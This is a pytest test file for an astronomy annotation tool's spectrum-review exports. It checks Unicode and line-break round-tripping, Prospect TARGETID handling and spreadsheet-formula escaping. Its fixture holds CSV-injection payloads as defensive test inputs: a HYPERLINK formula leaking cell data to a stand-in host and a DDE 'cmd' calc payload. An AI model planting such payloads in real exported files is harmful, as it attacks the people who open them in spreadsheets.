"""The files experts and admins open elsewhere (the VI CSV in Loupe's, Prospect's and Marz's
layouts, the catalogue's CSV and FITS) hold any Unicode text exactly, run no formula in a
spreadsheet, merge with the community's tables, and read back into the same decisions."""

from __future__ import annotations

import csv
import io

import pytest

from agent.refs import CandidateRef
from annotate import review
from annotate.export import vi
from annotate.export.spreadsheet import TRIGGERS, cell, uncell
from annotate.export.vi_ids import target_id
from annotate.intake.labels import import_labels
from db.store import Store
from tests.store_factory import traj

LAYOUTS = ("loupe", "prospect", "marz")
BREAKS = ("\n", "\r\n", "\r", "\u2028", "\u2029", "\x85")
# (id, survey, object_id, ra, dec): ids a spreadsheet would run, Unicode, plain ones
OBJECTS = (
    ("café-α", "LAMOST", "123456789", 10.5, -5.25),
    ('=HYPERLINK("http://x.example/?"&A1,"x")', "SDSS", "0266-51602-0001", 200.125, 30.0),
    ("-2+3+cmd|' /C calc'!A0", "simulated", "-2+3+cmd|' /C calc'!A0", None, None),
    ("'quoted", "DESI", "39627652591521181", 150.0, 2.5),
    ("@SUM(1+1)", "simulated", "@SUM(1+1)", 0.0, -89.5),
    ("\uff1dfull-width", "simulated", "obj \u2028 7", 359.999, 0.0),
    ("plain", "simulated", "plain", 1.0, 1.0),
)


def _store(path, flip: frozenset[str] = frozenset()) -> Store:
    """The objects above as `wd` candidates, each vetted YES by the agent (NO for the ids in
    `flip`)."""
    store = Store(f"sqlite:///{path}")
    store.add_candidates([
        CandidateRef(id=key, task="wd", path=f"/nowhere/{n}.fits",
                     extra=(("survey", survey), ("object_id", oid),
                            *((("ra", ra), ("dec", dec)) if ra is not None else ())))
        for n, (key, survey, oid, ra, dec) in enumerate(OBJECTS)
    ])  # fmt: skip
    for n, (key, *_) in enumerate(OBJECTS):
        t = traj(key, 0.1 if key in flip else 0.9, "wd")
        t.spectrum_ref = {"path": f"/nowhere/{n}.fits"}
        store.record_trajectory(t)
    store.ensure_expert("ada")
    store.ensure_expert("=bea")
    return store


def _cid(store, key: str) -> int:
    return store.find_candidate(key, "wd").id


def _decide(store) -> None:
    """Every kind of decision, every text holding each line break, a formula, a leading
    quote, blanks at either end."""
    k = [o[0] for o in OBJECTS]
    review.decide(store, "ada", _cid(store, k[0]), "accept", grade=4,
                  comment="  broad.\nThey are\r\nbroad\rlines \u2028 here\u2029\x85 ",
                  spectype="DB white dwarf")  # fmt: skip
    review.decide(store, "ada", _cid(store, k[1]), "reject",
                  explanation="=1+1 no He I;\nThey\u2028are narrow",
                  comment="@me: see\r\nthe\rred end", issues="RS", spectype="M giant")  # fmt: skip
    review.decide(store, "ada", _cid(store, k[2]), "correct", label="NO", wrong_step=1,
                  explanation="-TiO bands\n\nso NO", comment="'quoted'",
                  spectype="galaxy, passive", redshift=0.5, redshift_source="expert")  # fmt: skip
    review.decide(store, "=bea", _cid(store, k[3]), "reject",
                  explanation="'starts with a quote", comment="\tTabbed", spectype="QSO")  # fmt: skip
    review.decide(store, "ada", _cid(store, k[4]), "flag", comment="+44 odd continuum\r")
    review.decide(store, "=bea", _cid(store, k[5]), "skip", comment="\uff20full width")
    review.decide(store, "ada", _cid(store, k[6]), "accept", comment="plain, with a comma")


def _as_decided(store) -> dict[tuple[str, str], tuple]:
    names = {e.id: e.name for e in store.experts()}
    out = {}
    for r in store.reviews():
        c = store.candidate(r.candidate_id)
        out[(c.key, names[r.expert_id])] = (
            r.action, r.label, r.grade, r.redshift, r.redshift_source, r.explanation,
            r.wrong_step, r.comment, r.issues, r.spectype,
        )  # fmt: skip
    return out


def _texts(store) -> set[str]:
    return {t for r in store.reviews() for t in (r.explanation, r.comment) if t}


@pytest.fixture
def source(tmp_path):
    store = _store(tmp_path / "source.db")
    _decide(store)
    yield store
    store.close()


def _cells(path, comments: bool = False) -> tuple[list[str], list[list[str]]]:
    with open(path, newline="", encoding="utf-8") as fh:  # line breaks as written
        lines = fh.read().split("\n")
    if comments:  # the catalogue: its quoted figures in '#' lines above the header
        lines = [ln for ln in lines if not ln.startswith("#")]
    n = 0
    while lines[n].startswith("#") and lines[n + 1].startswith("#"):
        n += 1  # Marz: the header is the last '#' line
    body = "\n".join(lines[n:]).lstrip("#")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    return rows[0], rows[1:]


# -- line breaks, Unicode, and text as written, in every layout


@pytest.mark.parametrize("layout", LAYOUTS)
def test_every_text_round_trips_exactly_in_every_layout(source, tmp_path, layout):
    out = tmp_path / f"vi_{layout}.csv"
    assert vi.write_vi(source, out, layout=layout) == len(OBJECTS)
    fresh = _store(tmp_path / "fresh.db")
    try:
        report = import_labels(fresh, out, None)
        assert (report.recorded, report.errors) == (len(OBJECTS), []), report
        assert _as_decided(fresh) == _as_decided(source)
        again = import_labels(fresh, out, None)
        assert (again.recorded, again.unchanged, again.errors) == (0, len(OBJECTS), [])
    finally:
        fresh.close()


def test_each_line_break_is_its_own_cell_content(source, tmp_path):
    """A reasoning holding any one line break is neither refused nor joined up."""
    out = tmp_path / "vi.csv"
    for brk in BREAKS:
        cid = _cid(source, OBJECTS[6][0])
        review.decide(source, "ada", cid, "reject", explanation=f"broad.{brk}They are")
        vi.write_vi(source, out)
        fresh = _store(tmp_path / f"fresh{BREAKS.index(brk)}.db")
        try:
            report = import_labels(fresh, out, None)
            assert report.errors == [] and report.recorded == len(OBJECTS)
            (r,) = fresh.reviews(candidate_id=_cid(fresh, OBJECTS[6][0]))
            assert r.explanation == f"broad.{brk}They are"
        finally:
            fresh.close()
        out.unlink()


def test_import_keeps_text_as_written(source, tmp_path):
    """Blanks at either end of a reason or comment are the expert's text, kept."""
    c = source.find_candidate("plain", "wd")
    path = tmp_path / "labels.csv"
    path.write_text('id,task,label,reason,comment\n'
                    'plain,wd,NO,"  TiO bands.  ","note \t "\n', encoding="utf-8")  # fmt: skip
    assert import_labels(source, path, "ada").errors == []
    (r,) = source.reviews(candidate_id=c.id)
    assert (r.action, r.explanation, r.comment) == ("reject", "  TiO bands.  ", "note \t ")


def test_a_refused_row_after_a_cell_of_several_lines_is_named_by_its_own_line(source, tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text('id,task,label,comment\nplain,wd,YES,"one\ntwo\r\nthree"\n'
                    "nobody,wd,YES,x\n", encoding="utf-8")  # fmt: skip
    report = import_labels(source, path, "ada")
    assert report.recorded == 1 and [ln for ln, _ in report.errors] == [5]


# -- spreadsheets: no cell runs, every cell reads back


def test_the_escape_is_reversible_and_leaves_numbers_alone():
    texts = ["=1+1", "+1", "-1+2", "@A1", "\t=x", "\r=x", "'", "''x", "", "plain", "-",
             "\uff1dA1", "-0.5", "+3", "-1e-3", "12", "1,5", " =A1", "\n@A1", " 'x"]  # fmt: skip
    assert [cell(t)[0] for t in ("\uff1dA1", " =A1", "\n@A1")] == ["'"] * 3
    for t in texts:
        assert uncell(cell(t)) == t
    assert [cell(t) for t in ("-0.5", "+3", "-1e-3", "-12.")] == ["-0.5", "+3", "-1e-3", "-12."]
    assert cell("-0.5=cmd") == "'-0.5=cmd" and cell(-0.5) == -0.5


def _safe(value: str) -> bool:
    if not value or (value[0] not in TRIGGERS and value.lstrip()[:1] not in TRIGGERS):
        return True
    try:
        float(value)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("layout", LAYOUTS)
def test_no_vi_cell_runs_in_a_spreadsheet_and_numbers_stay_numbers(source, tmp_path, layout):
    out = tmp_path / "vi.csv"
    vi.write_vi(source, out, layout=layout)
    names, rows = _cells(out)
    for row in rows:
        for name, value in zip(names, row):
            assert _safe(value), (name, value)
    got = {uncell(v) for row in rows for v in row}
    assert {o[0] for o in OBJECTS} <= got  # the ids, exactly, once the quote is off
    assert "=1+1 no He I;\nThey\u2028are narrow" in got and "-TiO bands\n\nso NO" in got
    if layout == "marz":
        decs = [row[names.index("DEC")] for row in rows]
        assert "-5.250000" in decs and "-89.500000" in decs  # a number, not text


def test_no_catalogue_cell_runs_and_unicode_ids_are_written(tmp_path):
    """One YES candidate with a non-ASCII id (and others a spreadsheet would run) in the
    catalogue: both files are written and read back to the same text."""
    from astropy.table import Table

    from annotate.export.catalogue import read_fits_text, write_catalogue

    store = _store(tmp_path / "cat.db")
    try:
        for key, *_ in OBJECTS:
            review.decide(store, "ada", _cid(store, key), "accept")
        cat = write_catalogue(store, tmp_path / "cat")
    finally:
        store.close()
    names, rows = _cells(cat.out / "wd.csv", comments=True)
    for row in rows:
        for name, value in zip(names, row):
            assert _safe(value), (name, value)
    got = [{n: uncell(v) for n, v in zip(names, row)} for row in rows]
    assert [r["id"] for r in got] == [o[0] for o in OBJECTS]
    assert [r["object_id"] for r in got] == [o[2] for o in OBJECTS]
    assert got[0]["dec"] == "-5.25" and float(got[4]["dec"]) == -89.5
    fits_rows = read_fits_text(cat.out / "wd.fits")
    assert [r["id"] for r in fits_rows] == [o[0] for o in OBJECTS]
    assert [r["object_id"] for r in fits_rows] == [o[2] for o in OBJECTS]
    t = Table.read(cat.out / "wd.fits", hdu="CATALOGUE")
    assert [str(x) for x in t["id"]] == [o[0] for o in OBJECTS]  # astropy decodes UTF-8


def test_export_catalogue_command_writes_a_unicode_id(tmp_path, capsys):
    import launch

    store = _store(tmp_path / "cat.db")
    try:
        review.decide(store, "ada", _cid(store, "café-α"), "accept")
    finally:
        store.close()
    rc = launch.main(["export", "catalogue", "--db", str(tmp_path / "cat.db"),
                      "--out", str(tmp_path / "cat")])  # fmt: skip
    assert rc == 0, capsys.readouterr().err
    assert "café-α" in (tmp_path / "cat" / "wd.csv").read_text(encoding="utf-8")


# -- duplicate rows, and text never dropped


def test_a_duplicate_row_is_superseded_by_the_later_one_and_reimport_records_nothing(
    source, tmp_path
):
    c = source.find_candidate("plain", "wd")
    path = tmp_path / "dup.csv"
    path.write_text("id,task,label,comment\nplain,wd,YES,first\nplain,wd,NO,second\n",
                    encoding="utf-8")  # fmt: skip
    first = import_labels(source, path, "=bea")
    (r,) = source.reviews(candidate_id=c.id, expert="=bea")
    assert (r.action, r.comment) == ("reject", "second")
    revisions = len(source.review_history(r.id))
    assert (first.recorded, first.errors, revisions) == (1, [], 0)  # one decision, no revision
    assert first.superseded == [(2, 3)] and "line 2 by line 3" in str(first)
    for _ in range(2):
        again = import_labels(source, path, "=bea")
        assert (again.recorded, again.unchanged) == (0, 1)
        assert len(source.review_history(r.id)) == revisions


def test_an_accepts_reason_is_kept_as_its_comment_and_counted(source, tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text('id,task,label,reason,comment\nplain,wd,YES,"Broad H-alpha.",\n'
                    '"café-α",wd,YES,"He I 4471.","seen, agreed"\n', encoding="utf-8")  # fmt: skip
    report = import_labels(source, path, "=bea")
    (a,) = source.reviews(candidate_id=_cid(source, "plain"), expert="=bea")
    (b,) = source.reviews(candidate_id=_cid(source, "café-α"), expert="=bea")
    assert (a.action, a.explanation, a.comment) == ("accept", None, "Broad H-alpha.")
    assert (b.explanation, b.comment) == (None, "seen, agreed\n\nreason: He I 4471.")
    assert report.errors == [] and (report.as_comment, report.trained) == (2, 0)
    assert "2 reason(s) kept as comments" in str(report)


@pytest.mark.parametrize("layout", LAYOUTS)
def test_labels_that_agree_and_disagree_with_the_agent_keep_every_text(source, tmp_path, layout):
    """Read into a store whose agent answered the other way on half the candidates, every
    label is kept and no text is lost: a reject's reason on a candidate where the label now
    agrees with the agent is its accept's comment."""
    out = tmp_path / "vi.csv"
    vi.write_vi(source, out, layout=layout)
    flipped = frozenset(OBJECTS[i][0] for i in (1, 3, 5, 6))
    other = _store(tmp_path / "other.db", flip=flipped)
    try:
        report = import_labels(other, out, None)
        assert report.errors == [] and report.recorded == len(OBJECTS)
        before = {(source.candidate(r.candidate_id).key, r.expert_id): r.label
                  for r in source.reviews()}  # fmt: skip
        after = {(other.candidate(r.candidate_id).key, r.expert_id): r.label
                 for r in other.reviews()}  # fmt: skip
        assert after == before
        kept = " ".join(_texts(other))
        for text in _texts(source):
            assert text in kept, text
        (r,) = other.reviews(candidate_id=_cid(other, OBJECTS[1][0]))  # reject -> accept
        assert r.action == "accept" and "=1+1 no He I;\nThey\u2028are narrow" in r.comment
        (r,) = other.reviews(candidate_id=_cid(other, "plain"))  # accept -> reject
        assert (r.action, r.comment) == ("reject", "plain, with a comma")
        assert report.as_comment >= 1 and report.steps_dropped == 0
    finally:
        other.close()


# -- Prospect's and Marz's fields


def test_prospect_targetid_is_stable_never_a_desi_one_and_read_back(source, tmp_path):
    out = tmp_path / "p.csv"
    vi.write_vi(source, out, layout="prospect")
    names, rows = _cells(out)
    by = {uncell(r[names.index("id")]): dict(zip(names, r)) for r in rows}
    tids = {k: int(r["TARGETID"]) for k, r in by.items()}
    assert tids["'quoted"] == 39627652591521181  # DESI's own
    assert tids["café-α"] == 2**62 + 2**56 + 123456789  # LAMOST obsid
    assert tids[OBJECTS[1][0]] == 2**62 + 2 * 2**56 + 266_51602_0001  # SDSS plate-mjd-fiber
    others = [v for k, v in tids.items() if k != "'quoted"]
    assert all(2**62 <= v < 2**63 for v in others) and len(set(tids.values())) == len(tids)
    again = tmp_path / "p2.csv"
    vi.write_vi(source, again, layout="prospect")
    assert [r[0] for r in _cells(again)[1]] == [r[0] for r in rows]  # stable
    # Prospect's spectral class, Loupe's finer type beside it
    assert (by["café-α"]["VI_spectype"], by["café-α"]["spectype"]) == ("STAR", "DB white dwarf")
    assert by[OBJECTS[2][0]]["VI_spectype"] == "GALAXY"
    assert {r["VI_spectype"] for r in by.values()} <= {"STAR", "GALAXY", "QSO", ""}
    # a merged table keeps TARGETID only: its rows still find their candidates
    keep = [n for n in names if n not in ("id", "object_id")]
    bare = tmp_path / "bare.csv"
    with bare.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(keep)
        for r in rows:
            w.writerow([v for n, v in zip(names, r) if n in keep])
    fresh = _store(tmp_path / "fresh.db")
    try:
        report = import_labels(fresh, bare, None)
        assert (report.recorded, report.errors) == (len(OBJECTS), [])
        assert _as_decided(fresh) == _as_decided(source)
    finally:
        fresh.close()


def test_target_id_of_other_surveys_is_a_hash_in_the_reserved_range():
    a, b = target_id("simulated", "x1"), target_id("simulated", "x2")
    assert a != b and a == target_id("simulated", "x1") and 2**62 <= a < 2**62 + 2**56
    assert target_id("LAMOST", "J123456.7+123456") != target_id("SDSS", "J123456.7+123456")


def test_the_prospect_file_reads_as_a_prospect_vi_table(source, tmp_path):
    """astropy and pandas read it with integer TARGETID, VI_quality, EXPID, NIGHT, TILEID,
    as Prospect's VI tables are typed."""
    import pandas as pd
    from astropy.table import Table

    out = tmp_path / "p.csv"
    vi.write_vi(source, out, layout="prospect")
    t = Table.read(out, format="ascii.csv", encoding="utf-8")
    df = pd.read_csv(out, keep_default_na=False)
    for col in ("TARGETID", "EXPID", "NIGHT", "TILEID", "VI_quality"):
        assert t[col].dtype.kind == "i", col
        assert df[col].dtype.kind == "i", col
    assert set(t["VI_spectype"].filled("")) == {"GALAXY", "QSO", "STAR", ""}
    assert df["spectype"].tolist() == [r.spectype or "" for r in source.reviews()]


def test_marz_ra_dec_are_the_stored_position_in_degrees(source, tmp_path):
    out = tmp_path / "m.mz"
    vi.write_vi(source, out, layout="marz")
    names, rows = _cells(out)
    by = {uncell(r[names.index("Name")]): dict(zip(names, r)) for r in rows}
    for key, _, _, ra, dec in OBJECTS:
        if ra is None:
            assert (by[key]["RA"], by[key]["DEC"]) == ("", "")
        else:
            assert (float(by[key]["RA"]), float(by[key]["DEC"])) == (ra, dec)


# -- export vi never overwrites a file unasked


def test_export_vi_refuses_to_overwrite_without_force(source, tmp_path, capsys):
    import launch

    db = str(tmp_path / "source.db")
    out = tmp_path / "vi.csv"
    out.write_text("my own notes\n", encoding="utf-8")
    rc = launch.main(["export", "vi", "--db", db, "--out", str(out)])
    err = capsys.readouterr().err
    assert rc == 2 and "--force" in err and len(err.strip().splitlines()) == 1
    assert out.read_text(encoding="utf-8") == "my own notes\n"
    assert launch.main(["export", "vi", "--db", db, "--out", str(out), "--force"]) == 0
    assert len(_cells(out)[1]) == len(OBJECTS)
